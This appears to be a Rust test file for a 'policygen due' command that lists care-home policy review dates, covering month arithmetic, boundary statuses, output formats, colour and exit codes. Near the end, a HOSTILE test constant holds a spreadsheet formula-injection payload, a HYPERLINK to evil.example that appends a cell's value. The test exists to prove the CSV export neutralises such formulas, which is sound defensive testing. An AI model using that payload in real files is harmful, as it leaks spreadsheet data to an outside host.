//! `policygen due`: review dates, statuses on the boundary days, output
//! formats and `--fail-on` exit codes. The build date is 2026-11-23 unless a
//! test says otherwise; `tests/fixtures/due/organisations` has one profile per
//! date edge.

use serde_json::Value;

use crate::harness::{Library, TODAY, assert_snapshot};

fn due_json(library: &Library, today: &str, extra: &[&str]) -> Value {
    let mut args = vec!["due", "--format", "json"];
    args.extend_from_slice(extra);
    let run = library.run_on(today, &args);
    assert_eq!(run.code, 0, "{}", run.stderr);
    serde_json::from_str(&run.stdout).expect("due prints JSON")
}

/// The schedule row of one organisation and policy.
fn row<'a>(json: &'a Value, org: &str, policy: &str) -> &'a Value {
    json["schedule"]
        .as_array()
        .expect("schedule is a list")
        .iter()
        .find(|r| r["org"] == org && r["policy"] == policy)
        .unwrap_or_else(|| panic!("no row for {org} × {policy}"))
}

#[test]
fn table_lists_worst_first_and_summarises() {
    let library = Library::layers(&["workflow", "due"]);
    let run = library.run(&["due"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(run.stderr, "");
    assert!(!run.stdout.contains('\x1b'), "no colour when piped");
    assert_snapshot("expected/due/table.txt", &run.stdout);
}

#[test]
fn json_schema_is_stable() {
    let library = Library::layers(&["workflow", "due"]);
    let run = library.run(&["due", "--format", "json"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_snapshot("expected/due/schedule.json", &run.stdout);

    // The documented field names, exactly: scripts depend on them.
    let json: Value = serde_json::from_str(&run.stdout).unwrap();
    let keys = |v: &Value| -> Vec<String> {
        let mut keys: Vec<String> = v.as_object().unwrap().keys().cloned().collect();
        keys.sort();
        keys
    };
    assert_eq!(
        keys(&json),
        ["build_date", "schedule", "summary", "within_days"]
    );
    assert_eq!(keys(&json["summary"]), ["current", "due", "overdue"]);
    for row in json["schedule"].as_array().unwrap() {
        assert_eq!(
            keys(row),
            [
                "approval",
                "cycle",
                "days_left",
                "last_review",
                "next_review",
                "org",
                "org_name",
                "policy",
                "policy_code",
                "policy_title",
                "registered_manager",
                "registration_no",
                "regulator",
                "service",
                "status",
                "variant"
            ]
        );
    }
}

#[test]
fn ics_matches_the_schedule() {
    let library = Library::layers(&["workflow", "due"]);
    let run = library.run(&["due", "--format", "ics"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(run.stdout.starts_with("BEGIN:VCALENDAR\r\n"));
    assert_eq!(run.stdout.matches("BEGIN:VEVENT").count(), 9);
    assert!(run.stdout.contains("BEGIN:VALARM\r\n"));
    assert_snapshot("expected/due/reviews.ics", &run.stdout);
    // Reminders come the --within window ahead.
    let run = library.run(&["due", "--format", "ics", "--within", "14"]);
    assert_eq!(
        run.stdout.matches("TRIGGER:-P14D\r\n").count(),
        5,
        "{}",
        run.stdout
    );
    assert_eq!(run.stdout.matches("TRIGGER:PT9H\r\n").count(), 4);
}

#[test]
fn month_arithmetic_clamps_to_the_month_end() {
    let json = due_json(&Library::layers(&["workflow", "due"]), TODAY, &[]);
    // 29 February 2024 + 12 months: there is no 29 February 2025.
    let leap = row(&json, "leap-day", "handbook");
    assert_eq!(leap["last_review"], "2024-02-29");
    assert_eq!(leap["next_review"], "2025-02-28");
    assert_eq!(leap["cycle"], "12 months");
    // 31 January 2026 + 1 month: February has 28 days.
    let month = row(&json, "month-end", "handbook");
    assert_eq!(month["next_review"], "2026-02-28");
    assert_eq!(month["cycle"], "1 month");
}

#[test]
fn cycles_follow_the_precedence_chain() {
    let json = due_json(&Library::layers(&["workflow", "due"]), TODAY, &[]);
    // The profile's per-policy 6 months beats the organisation's 12 months.
    let six = row(&json, "six-monthly", "handbook");
    assert_eq!(six["cycle"], "6 months");
    assert_eq!(six["next_review"], "2026-10-20");
    assert_eq!(six["status"], "overdue");
    assert_eq!(six["days_left"], -34);
    // Nothing in the profile: the policy source's 2 years, else 12 months;
    // with no review recorded, the first review is due now (SPEC §5).
    let visiting = row(&json, "never-reviewed", "visiting");
    assert_eq!(visiting["cycle"], "2 years");
    assert_eq!(visiting["last_review"], Value::Null);
    assert_eq!(visiting["next_review"], TODAY);
    assert_eq!(visiting["status"], "due");
    assert_eq!(visiting["days_left"], 0);
    assert_eq!(visiting["approval"], "none");
    let handbook = row(&json, "never-reviewed", "handbook");
    assert_eq!(handbook["cycle"], "12 months");
    assert_eq!(handbook["next_review"], TODAY);
}

#[test]
fn statuses_on_the_boundary_days() {
    let library = Library::layers(&["workflow", "due"]);
    let json = due_json(&library, TODAY, &[]);
    let status = |org: &str| {
        let r = row(&json, org, "handbook");
        (
            r["status"].as_str().unwrap().to_string(),
            r["days_left"].as_i64().unwrap(),
        )
    };
    assert_eq!(status("overdue-yesterday"), ("overdue".into(), -1));
    assert_eq!(status("due-today"), ("due".into(), 0));
    assert_eq!(status("due-at-window"), ("due".into(), 30));
    assert_eq!(status("current-after-window"), ("current".into(), 31));

    // The window moves with --within: 31 days takes in the 31st day…
    let wider = due_json(&library, TODAY, &["--within", "31"]);
    assert_eq!(
        row(&wider, "current-after-window", "handbook")["status"],
        "due"
    );
    assert_eq!(wider["within_days"], 31);
    // …and with no window, only today's review is due.
    let none = due_json(&library, TODAY, &["--within", "0"]);
    assert_eq!(row(&none, "due-today", "handbook")["status"], "due");
    assert_eq!(row(&none, "due-at-window", "handbook")["status"], "current");

    // The next day, today's review is overdue by one day.
    let tomorrow = due_json(&library, "2026-11-24", &[]);
    let r = row(&tomorrow, "due-today", "handbook");
    assert_eq!(
        (r["status"].as_str(), r["days_left"].as_i64()),
        (Some("overdue"), Some(-1))
    );
}

#[test]
fn the_table_says_how_many_days() {
    let run = Library::layers(&["workflow", "due"]).run(&[
        "due",
        "--org",
        "due-today",
        "--org",
        "overdue-yesterday",
    ]);
    assert_eq!(
        run.stdout,
        "\
Organisation       Policy    Variant  Last review  Next review  Days left         Status   Approval
overdue-yesterday  handbook  all      2025-11-22   2026-11-22   overdue by 1 day  overdue  awaiting approval
due-today          handbook  all      2025-11-23   2026-11-23   today             due      awaiting approval

as of 2026-11-23: 1 overdue, 1 due within 30 days, 0 current; 2 drafts not yet approved
"
    );
}

#[test]
fn filters_by_org_and_policy() {
    let library = Library::layers(&["workflow", "due"]);
    let json = due_json(
        &library,
        TODAY,
        &["--org", "never-reviewed", "--policy", "visiting"],
    );
    let rows = json["schedule"].as_array().unwrap();
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0]["policy_title"], "Visiting Policy");
    assert_eq!(rows[0]["org_name"], "Never Reviewed Home");

    let run = library.run(&["due", "--org", "never-reviewd"]);
    assert_eq!(run.code, 2);
    assert_eq!(
        run.stderr,
        "error: unknown organisation `never-reviewd`\n  = hint: did you mean `never-reviewed`?\n\nerror: found 1 error\n"
    );
    assert_eq!(run.stdout, "");
}

#[test]
fn fail_on_sets_the_exit_code() {
    let library = Library::layers(&["workflow", "due"]);
    let code = |args: &[&str]| {
        let mut all = vec!["due"];
        all.extend_from_slice(args);
        library.run(&all).code
    };
    // Without --fail-on, overdue reviews are reported, not failed.
    assert_eq!(code(&[]), 0);
    assert_eq!(code(&["--fail-on", "overdue"]), 1);
    assert_eq!(code(&["--fail-on", "due"]), 1);
    // Due (today, or on the window's last day) fails only --fail-on due.
    assert_eq!(code(&["--fail-on", "overdue", "--org", "due-today"]), 0);
    assert_eq!(code(&["--fail-on", "due", "--org", "due-today"]), 1);
    assert_eq!(code(&["--fail-on", "due", "--org", "due-at-window"]), 1);
    assert_eq!(
        code(&["--fail-on", "overdue", "--org", "overdue-yesterday"]),
        1
    );
    // Current passes both.
    assert_eq!(
        code(&["--fail-on", "due", "--org", "current-after-window"]),
        0
    );
    // Never reviewed: its first review is due now.
    assert_eq!(
        code(&["--fail-on", "overdue", "--org", "never-reviewed"]),
        0
    );
    assert_eq!(code(&["--fail-on", "due", "--org", "never-reviewed"]), 1);
    // An unknown value is a usage error.
    assert_eq!(code(&["--fail-on", "soon"]), 2);

    // The schedule is still printed, and stderr says why it failed.
    let run = library.run(&["due", "--format", "json", "--fail-on", "overdue"]);
    assert_eq!(run.code, 1);
    assert!(serde_json::from_str::<Value>(&run.stdout).is_ok());
    assert_eq!(
        run.stderr,
        "error: 4 policy reviews are overdue (--fail-on overdue)\n  = hint: record each completed review with `policygen review ORG POLICY`\n"
    );
    let run = library.run(&["due", "--fail-on", "due", "--org", "due-today"]);
    assert!(
        run.stderr
            .starts_with("error: 1 policy review is due or overdue (--fail-on due)\n")
    );
}

#[test]
fn colour_only_when_asked_or_on_a_terminal() {
    let library = Library::layers(&["workflow", "due"]);
    let args = [
        "due",
        "--org",
        "due-today",
        "--org",
        "overdue-yesterday",
        "--org",
        "never-reviewed",
    ];
    // Piped (as here), the table is plain even without NO_COLOR.
    let plain = library.run_env(&args, &[]);
    assert!(!plain.stdout.contains('\x1b'));

    // --color always forces colour, even with NO_COLOR set.
    let mut forced = args.to_vec();
    forced.extend(["--color", "always"]);
    let coloured = library.run_env(&forced, &[("NO_COLOR", "1")]);
    assert!(
        coloured
            .stdout
            .contains("\x1b[1;31moverdue\x1b[0m  \x1b[1;33mawaiting approval\x1b[0m\n")
    );
    assert!(
        coloured
            .stdout
            .contains("\x1b[1;33mdue\x1b[0m      \x1b[1;33mawaiting approval\x1b[0m\n")
    );
    assert!(
        coloured
            .stdout
            .contains("\x1b[1;33mdue\x1b[0m      \x1b[1;33mnever reviewed\x1b[0m\n")
    );
    // Colour codes do not upset the alignment: strip them and the table is the plain one.
    let stripped = strip_colour(&coloured.stdout);
    assert_eq!(stripped, plain.stdout);

    // On a terminal, colour is automatic; NO_COLOR or --color never turn it off.
    let on_terminal = |extra: &str, env: &[(&str, &str)]| {
        let command = format!(
            "{} --today {TODAY} due --org due-today --org overdue-yesterday{extra}",
            env!("CARGO_BIN_EXE_policygen")
        );
        let mut script = std::process::Command::new("script");
        script
            .args(["-qec", &command, "/dev/null"])
            .current_dir(library.path())
            .env_remove("NO_COLOR");
        for (key, value) in env {
            script.env(key, value);
        }
        let output = script.output().expect("run policygen under script(1)");
        assert!(output.status.success(), "{output:?}");
        String::from_utf8(output.stdout)
            .unwrap()
            .replace("\r\n", "\n")
    };
    let tty = on_terminal("", &[]);
    assert!(tty.contains("\x1b[1;31moverdue\x1b[0m  "), "{tty:?}");
    assert_eq!(
        strip_colour(&tty),
        library
            .run(&["due", "--org", "due-today", "--org", "overdue-yesterday"])
            .stdout
    );
    let tty_no_color = on_terminal("", &[("NO_COLOR", "1")]);
    assert!(!tty_no_color.contains('\x1b'), "{tty_no_color:?}");
    assert!(tty_no_color.contains("overdue by 1 day  overdue  awaiting approval\n"));
    let tty_never = on_terminal(" --color never", &[]);
    assert!(!tty_never.contains('\x1b'), "{tty_never:?}");
}

fn strip_colour(text: &str) -> String {
    ["\x1b[1;31m", "\x1b[1;33m", "\x1b[32m", "\x1b[1m", "\x1b[0m"]
        .iter()
        .fold(text.to_string(), |text, code| text.replace(code, ""))
}

#[test]
fn an_invalid_profile_stops_the_schedule() {
    let library = Library::layers(&["workflow", "due"]);
    library.write(
        "organisations/broken.yaml",
        "name: Broken\nregistration_no: \"SIN-1\"\njurisdiction: ciw\nservice: care-home\n",
    );
    let run = library.run(&["due"]);
    assert_eq!(run.code, 1);
    assert_eq!(run.stdout, "");
    assert!(
        run.stderr.starts_with("error: registration number `SIN-1` is not a valid CIW service ID\n --> organisations/broken.yaml:2:18\n"),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr
            .ends_with("fix the errors above to see the full review schedule\n")
    );
    // Other organisations' schedules are still available on their own.
    let run = library.run(&["due", "--org", "leap-day"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
}

#[test]
fn an_empty_selection_says_so() {
    let library = Library::layers(&["workflow"]);
    let run = library.run(&["due"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(
        run.stdout,
        "no policies are built for the selected organisations, so nothing is due\n"
    );
    let json = due_json(&library, TODAY, &[]);
    assert_eq!(json["schedule"], Value::Array(vec![]));
}

/// An organisation name built to break spreadsheets: a formula, commas,
/// quotes and a line break.
const HOSTILE: &str =
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click, \"\"here\"\"\")\nSecond line, Ltd";

fn hostile_library() -> Library {
    let library = Library::new("");
    let yaml_name = HOSTILE
        .replace('\\', "\\\\")
        .replace('"', "\\\"")
        .replace('\n', "\\n");
    library.write(
        "organisations/hostile.yaml",
        &format!(
            "name: \"{yaml_name}\"\nregistration_no: \"1-987654321\"\njurisdiction: cqc\nservice: care-home\nregistered_manager: {{ first_name: \"@Ann\", last_name: \"-Lee\" }}\n"
        ),
    );
    library
}

/// Parses CSV text with the `csv` crate: header and records.
fn parse_csv(text: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header = reader.headers().unwrap().iter().map(String::from).collect();
    let records = reader
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect();
    (header, records)
}

#[test]
fn csv_survives_a_hostile_name_and_cannot_run_formulas() {
    let library = hostile_library();
    let run = library.run(&["due", "--format", "csv"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(
        !run.stdout.starts_with('\u{feff}'),
        "no byte-order mark on stdout"
    );
    // RFC 4180: CRLF after every record, the line break inside a quoted field.
    assert!(run.stdout.ends_with("\r\n"));
    let (header, records) = parse_csv(&run.stdout);
    assert_eq!(
        header,
        [
            "org",
            "org_name",
            "registration_no",
            "regulator",
            "service",
            "registered_manager",
            "policy",
            "policy_title",
            "policy_code",
            "variant",
            "last_review",
            "next_review",
            "cycle",
            "days_left",
            "status",
            "approval"
        ]
    );
    let json = due_json(&library, TODAY, &[]);
    assert_eq!(records.len(), json["schedule"].as_array().unwrap().len());
    let hostile = records.iter().find(|r| r[0] == "hostile").unwrap();
    // Read back as the text written, with the formula neutralised by a leading '.
    assert_eq!(hostile[1], format!("'{HOSTILE}"));
    assert_eq!(hostile[5], "'@Ann -Lee");
    assert_eq!(hostile[3], "CQC");
    let good = records.iter().find(|r| r[0] == "good-home").unwrap();
    assert_eq!(good[1], "Good Home");
    // The same fields as the JSON, row for row.
    for (record, row) in records.iter().zip(json["schedule"].as_array().unwrap()) {
        assert_eq!(record[0], row["org"].as_str().unwrap());
        assert_eq!(record[11], row["next_review"].as_str().unwrap());
        assert_eq!(record[13], row["days_left"].to_string());
        assert_eq!(record[14], row["status"].as_str().unwrap());
        assert_eq!(record[15], row["approval"].as_str().unwrap());
    }
    // Every JSON field has its column.
    let fields = json["schedule"][0].as_object().unwrap();
    assert_eq!(fields.len(), header.len());
    assert!(fields.keys().all(|k| header.contains(k)), "{fields:?}");
    // No cell a spreadsheet would evaluate (a number of days may be negative).
    for record in &records {
        for (i, cell) in record.iter().enumerate() {
            if i != 13 {
                assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell:?}");
            }
        }
    }

    // out/schedule.csv: the same rows, after a byte-order mark for Excel.
    library.run(&["build", "--format", "md"]).success();
    let file = library.read("out/schedule.csv");
    assert_eq!(file, format!("\u{feff}{}", run.stdout));
    let mut reader = csv::Reader::from_path(library.path().join("out/schedule.csv")).unwrap();
    assert_eq!(
        &reader.headers().unwrap()[0],
        "org",
        "the csv crate skips the mark"
    );
}
